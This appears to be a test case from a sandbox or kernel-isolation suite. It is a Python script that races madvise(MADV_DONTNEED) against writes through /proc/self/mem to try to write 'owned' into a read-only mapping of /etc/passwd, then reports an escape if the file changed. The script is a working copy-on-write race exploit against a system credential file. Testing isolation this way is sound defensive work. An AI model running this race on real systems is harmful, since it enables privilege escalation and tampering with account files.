# Verdict: exit 0
from attack import *
import mmap, threading
before = open("/etc/passwd", "rb").read()
file = os.open("/etc/passwd", os.O_RDONLY)
block = mmap.mmap(file, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
address = int(next(line for line in open("/proc/self/maps") if "/etc/passwd" in line).split("-")[0], 16)
try:
    memory = os.open("/proc/self/mem", os.O_RDWR)
except OSError:
    # A kernel without this way in.
    sys.exit()
def forget():
    for _ in range(2000):
        block.madvise(mmap.MADV_DONTNEED)
thread = threading.Thread(target=forget)
thread.start()
for _ in range(2000):
    os.pwrite(memory, b"owned", address)
thread.join()
if open("/etc/passwd", "rb").read() != before:
    escaped("a file that can only be read was written")
